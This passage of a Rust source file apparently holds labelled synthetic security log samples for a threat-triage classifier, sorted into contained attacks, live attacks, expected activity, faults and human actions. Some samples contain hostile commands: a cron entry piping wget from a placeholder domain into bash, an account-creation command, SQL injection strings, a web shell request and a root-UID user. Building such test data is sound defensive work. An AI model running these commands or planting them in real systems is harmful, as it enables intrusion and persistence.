            "{\"EventID\":1,\"Computer\":\"{host}\",\"ParentImage\":\"WmiPrvSE.exe\",\"CommandLine\":\"cmd /c net user helper P@ss /add\",\"User\":\"{user}\"}",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{host} zscaler: user={user} url=drop.{domain} action=Allowed requestsize=881223411 threatname=None",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &["{host} greenbone: scan task weekly-lan from {lan} started by administrator"],
    ),
    (
        Expected,
        Exfiltration,
        &["{host} bareos-dir: Job weekly-full from {lan}: Termination: Backup OK, 91 GB"],
    ),
    (
        Expected,
        DefenseEvasion,
        &["{host} clamd: Database correctly reloaded, freshclam daily.cld updated"],
    ),
    (Expected, LateralMovement, &["{host} vpxd: vMotion of vm-81 to host {lan} completed by DRS"]),
    (
        Expected,
        BruteForce,
        &[
            "{host} sshd[61]: Connection closed by {lan} port 50311 [preauth]",
            "{host} telegraf: net_response probe {lan}:22 success",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"svc-sql\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC0000064\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"svc-sql\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC0000064\"}",
        ],
    ),
    (Faulty, DenialOfService, &["{host} mysqld: Too many connections from {lan}"]),
    (Faulty, CommandAndControl, &["{host} chronyd: Can't synchronise: no selectable sources"]),
    (
        Faulty,
        Reconnaissance,
        &[
            "{host} switchd: %SW_MATM-4-MACFLAP_NOTIF: Host 0000.1111.2222 in vlan 4 is flapping between port 1 and port 2",
        ],
    ),
    (
        Human,
        LateralMovement,
        &[
            "{\"eventtype\":\"authentication\",\"factor\":\"push\",\"result\":\"success\",\"username\":\"{user}\",\"ip\":\"{ip}\"}",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &[
            "{\"name\":\"download\",\"actor\":\"{user}@example.com\",\"doc_title\":\"plan\",\"visibility\":\"people_with_link\"}",
        ],
    ),
];

/// Written before signs were read by stems and by the names of keys: products of no other set.
pub(crate) const STEMS: &[Story] = &[
    (
        Contained,
        Malware,
        &[
            "{host} esets[210]: on-access scanner, file /home/{user}/setup.bin, threat Win32/Agent.NX trojan, action isolated to vault",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} vsftpd[81]: [{user}] FAIL LOGIN: Client \"{ip}\"",
            "{host} vsftpd[81]: [{user}] FAIL LOGIN: Client \"{ip}\"",
            "{host} crowdsec-bouncer: decision added for {ip}, remediation refused until 02:11",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{host} haproxy[9]: {ip}:50112 [03/Nov] fe~ fe/<NOSRV> 0/-1/-1 403 192 - - PR-- 1/1/0/0/0 0/0 \"GET /?q=%27or+1=1 HTTP/1.1\"",
            "{host} haproxy[9]: {ip}:50113 [03/Nov] fe~ fe/<NOSRV> 0/-1/-1 403 192 - - PR-- 1/1/0/0/0 0/0 \"GET /?q=%27-- HTTP/1.1\"",
        ],
    ),
    (
        Contained,
        Reconnaissance,
        &[
            "{host} RT_FLOW: RT_FLOW_SESSION_DENY: session denied {ip}/40211->{lan}/22 junos-ssh 6(0) default-deny untrust trust",
            "{host} RT_FLOW: RT_FLOW_SESSION_DENY: session denied {ip}/40212->{lan}/23 junos-telnet 6(0) default-deny untrust trust",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{\"operation\":\"PostDelivery\",\"recipient\":\"{user}@example.com\",\"senderDomain\":\"{domain}\",\"deliveryAction\":\"Junked\",\"remediationStatus\":\"Purged\"}",
        ],
    ),
    (
        Contained,
        DenialOfService,
        &[
            "{host} httpd[4]: mod_evasive: client {ip} throttled, 4021 requests answered 429",
            "{host} httpd[4]: mod_evasive: client {ip} throttled, 3982 requests answered 429",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "CEF:0|Tipping|SMS|5|7610|HTTP: Server Exploit|8|act=Block src={ip} dst={lan} dpt=443 cs1=Recommended",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{\"policy\":\"Security Categories\",\"internalIp\":\"{lan}\",\"domain\":\"a.{domain}\",\"verdict\":\"refused\",\"categories\":\"Command and Control\"}",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{host} openvpn[7]: {ip}:51820 TLS Auth Error: Auth Username/Password verification failed for peer",
            "{host} openvpn[7]: {ip}:51821 TLS Auth Error: Auth Username/Password verification failed for peer",
            "{host} openvpn[7]: {ip}:51822 [{user}] Peer Connection Initiated with [AF_INET]{ip}:51822",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "{\"agent\":\"{host}\",\"detection\":\"Gen:Variant.Kryptik\",\"path\":\"C:\\\\Users\\\\{user}\\\\a.exe\",\"mitigationStatus\":\"not_mitigated\",\"confidence\":\"malicious\"}",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "CEF:0|Fidelis|Network|9|12|Periodic TLS session to rare host|7|act=allowed src={lan} dst={ip} dpt=443 out=88211",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{\"dlpRule\":\"Customer list\",\"user\":\"{user}\",\"channel\":\"webmail\",\"bytes\":91823311,\"enforcement\":\"logged only\"}",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{host} auditd[5]: type=DAEMON_END msg=audit(1762135864.1:9): op=terminate auid=0 pid=812 res=success",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - [03/Nov/2026:02:11:04 +0000] \"POST /admin/upload HTTP/1.1\" 201 88 \"-\" \"python-requests\"",
            "{ip} - - [03/Nov/2026:02:11:09 +0000] \"GET /files/x.jsp?cmd=id HTTP/1.1\" 200 51 \"-\" \"python-requests\"",
        ],
    ),
    (
        Act,
        Persistence,
        &["{host} crond[3]: ({user}) REPLACE (* * * * * wget -qO- http://{domain}/i | bash)"],
    ),
    (
        Act,
        Ransomware,
        &[
            "{host} smbd_audit: {user}|{lan}|{host}|rename|ok|q3.xlsx|q3.xlsx.crypt",
            "{host} smbd_audit: {user}|{lan}|{host}|rename|ok|q4.xlsx|q4.xlsx.crypt",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "{lan} - - [03/Nov/2026:02:00:01 +0000] \"GET /phpinfo.php HTTP/1.1\" 404 0 \"-\" \"InsightVM scheduled assessment\"",
            "{lan} - - [03/Nov/2026:02:00:02 +0000] \"GET /.env HTTP/1.1\" 404 0 \"-\" \"InsightVM scheduled assessment\"",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &["{host} duplicati: scheduled backup job to {lan} completed, 81 GB uploaded"],
    ),
    (
        Expected,
        LateralMovement,
        &["{host} pdq-deploy: package \"Office patch\" deployed to {lan} as {user}, exit 0"],
    ),
    (
        Expected,
        DefenseEvasion,
        &["{host} esets[210]: module update finished, detection engine 30112 installed"],
    ),
    (
        Expected,
        BruteForce,
        &["{host} checkmk: service ssh probed from {lan}: OK - banner answered in 3 ms"],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} slapd[12]: conn=88 op=0 BIND dn=\"cn=printer\" err=49 text=stored credentials are stale",
            "{host} slapd[12]: conn=89 op=0 BIND dn=\"cn=printer\" err=49 text=stored credentials are stale",
        ],
    ),
    (
        Faulty,
        CommandAndControl,
        &["{host} ntpd[6]: no reply from configured server {lan}, retrying, wrong key id 4"],
    ),
    (
        Faulty,
        DenialOfService,
        &["{host} mysqld[4]: Too many connections: pool of app on {lan} never closes sessions"],
    ),
    (
        Faulty,
        Exploitation,
        &[
            "{host} nginx[7]: SSL_do_handshake() failed (no shared cipher) while SSL handshaking, client: {lan}",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &["{host} netskope: user {user} opened personal storage app from {lan}, activity Browse"],
    ),
    (Human, LateralMovement, &["{host} xrdp-sesman[9]: session started for user {user} from {ip}"]),
    (
        Human,
        Persistence,
        &[
            "{\"eventName\":\"CreateUser\",\"eventSource\":\"iam.amazonaws.com\",\"userName\":\"{user}\",\"sourceIPAddress\":\"{ip}\"}",
        ],
    ),
];

/// Written when stems were read and before anything was measured on it: products of no other set.
pub(crate) const LAST: &[Story] = &[
    (
        Contained,
        Malware,
        &[
            "{host} fsecure: {user} opened invoice.iso: infection Trojan.Lnk, harmful content has been blocked",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"vendor\":\"cybereason\",\"machine\":\"{host}\",\"malop\":\"Ransomware behaviour\",\"preventionAction\":\"PREVENTED\"}",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} proftpd[8]: {lan} ({ip}[{ip}]) - USER {user} (Login failed): Incorrect password",
            "{host} proftpd[8]: {lan} ({ip}[{ip}]) - Maximum login attempts (3) exceeded, connection refused",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{host} barracuda: {ip} {lan} SQL_INJECTION_IN_PARAM ALERT DENY NONE [type=\"sql-injection\"] GET /shop",
        ],
    ),
    (
        Contained,
        Reconnaissance,
        &[
            "{host} mikrotik: drop-wan input: in:ether1 out:(unknown 0), proto TCP (SYN), {ip}:4401->{lan}:8291, len 44",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "{host} stormshield: logtype=\"alarm\" action=block msg=\"HTTP: exploit attempt\" src={ip} dst={lan} dstport=80",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{\"product\":\"nextdns\",\"device\":\"{host}\",\"domain\":\"x.{domain}\",\"status\":\"blocked\",\"reasons\":[\"threat feed\"]}",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{host} mimecast: acc=C1 aCode=x act=Rej Sender=a@{domain} Recipient={user}@example.com RejType=\"Virus Signature Detection\"",
        ],
    ),
    (
        Contained,
        DenialOfService,
        &["{host} ddos-guard: SYN flood from {ip} scrubbed, 31 Gbit/s dropped at the edge"],
    ),
    (
        Act,
        BruteForce,
        &[
            "{host} guacd[4]: user {user} from {ip}: authentication attempt failed",
            "{host} guacd[4]: user {user} from {ip}: authentication attempt failed",
            "{host} guacd[4]: user {user} successfully authenticated from {ip}",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "{\"sensor\":\"{host}\",\"threat\":\"Cobalt.Beacon\",\"process\":\"rundll32.exe\",\"response\":\"detect-only policy, nothing done\"}",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{host} watchguard: Allow {lan} {ip} https/tcp 50112 443 msg=\"Application identified: tunnel\" sent_bytes=\"9912\"",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{host} sftp-server[6]: close \"/finance/all.zip\" bytes read 7712290011 written 0 by {user} from {ip}",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - [03/Nov/2026:02:11:04 +0000] \"GET /login?u=1%27%20UNION%20SELECT%20pass HTTP/1.1\" 200 48211 \"-\" \"sqlmap/1.8\"",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            "{host} pkexec[9]: {user}: Executing command [USER=root] [TTY=unknown] [CWD=/tmp/.x] [COMMAND=/bin/sh]",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{\"EventID\":4719,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"AuditPolicyChanges\":\"Success removed, Failure removed\"}",
        ],
    ),
    (
        Act,
        Persistence,
        &["{host} useradd[7]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash"],
    ),
    (
        Act,
        LateralMovement,
        &[
            "{\"EventID\":4648,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TargetServerName\":\"dc1\",\"ProcessName\":\"wmic.exe\"}",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &["{host} arpwatch: host {lan} swept 254 addresses, agent lansweeper inventory"],
    ),
    (
        Expected,
        Exfiltration,
        &["{host} synology-hyperbackup: task Offsite finished, 44 GB sent to {lan}"],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "{host} sshd[5]: Accepted publickey for jenkins from {lan} port 4011 ssh2: RSA SHA256:aa",
        ],
    ),
    (
        Expected,
        DenialOfService,
        &["{host} k6: load test run 88 against {lan}, 4000 virtual users, planned"],
    ),
    (
        Expected,
        DefenseEvasion,
        &["{host} sentinelctl: agent upgrade to 24.1 done, protection restarted"],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} smbd[4]: check_ntlm_password: authentication for user [scanner] from {lan} FAILED, NT_STATUS_PASSWORD_EXPIRED",
            "{host} smbd[4]: check_ntlm_password: authentication for user [scanner] from {lan} FAILED, NT_STATUS_PASSWORD_EXPIRED",
        ],
    ),
    (
        Faulty,
        Exfiltration,
        &["{host} rsyslogd: action 'fwd' suspended, cannot connect to {lan}:514, queue growing"],
    ),
    (
        Faulty,
        CommandAndControl,
        &["{host} chronyd[3]: Could not resolve time.example.com, source {lan} unreachable"],
    ),
    (
        Faulty,
        Exploitation,
        &[
            "{host} kernel: usb 1-2: device descriptor read error, protocol -71, mail gateway {lan} reset",
        ],
    ),
    (Human, PolicyViolation, &["{host} papercut: {user} printed 812 pages on lobby from {lan}"]),
    (
        Human,
        LateralMovement,
        &[
            "{host} strongswan[4]: authentication of '{user}' with EAP successful, assigned {lan}, peer {ip}",
        ],
    ),
    (Human, Persistence, &["{host} gitlab: user {user} created deploy key 'temp' from {ip}"]),
];
